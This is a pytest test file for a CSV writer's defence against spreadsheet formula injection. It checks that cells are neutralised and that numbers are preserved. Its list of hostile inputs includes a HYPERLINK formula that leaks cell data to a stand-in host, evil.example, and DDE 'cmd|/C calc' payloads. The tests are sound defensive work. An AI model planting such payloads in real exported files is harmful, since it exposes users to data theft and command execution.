"""One function writes every CSV cell: text a spreadsheet would run is neutralised (OWASP CSV
injection), numbers the product writes as numbers stay numbers."""

import csv
import io
from decimal import Decimal

import pytest

from assetlife.csvfile import csv_cell, write_csv


@pytest.mark.parametrize(
    "hostile",
    [
        '=HYPERLINK("http://evil.example/?leak="&A1,"Click")',
        "+1+cmd|' /C calc'!A0",
        "-2+3+cmd|' /C calc'!A0",
        "@SUM(1+9)*cmd|' /C calc'!A0",
        "\t=1+1",
        "\r=1+1",
        "-5",  # a number typed as text is text: neutralised like any other
    ],
)
def test_a_text_cell_that_a_spreadsheet_would_run_is_neutralised(hostile):
    assert csv_cell(hostile) == "'" + hostile


@pytest.mark.parametrize(
    ("number", "written"),
    [(-3, "-3"), (-0.2978723404255319, "-0.2978723404255319"), (Decimal("-12.500"), "-12.500"), (7, "7")],
)
def test_a_negative_number_written_as_a_number_stays_a_number(number, written):
    assert csv_cell(number) == written


def test_ordinary_cells_are_written_as_they_are():
    assert [csv_cell(v) for v in ("CC-AMS", "306-4 Recycling", "", None, True, False)] == [
        "CC-AMS",
        "306-4 Recycling",
        "",
        "",
        "true",
        "false",
    ]


def test_a_document_reads_back_cell_for_cell():
    text = write_csv(["group", "value"], [['=HYPERLINK("x")', -0.5], ["a,b", Decimal("1.250")]])
    assert text.endswith("\r\n")
    assert list(csv.reader(io.StringIO(text))) == [
        ["group", "value"],
        ['\'=HYPERLINK("x")', "-0.5"],
        ["a,b", "1.250"],
    ]
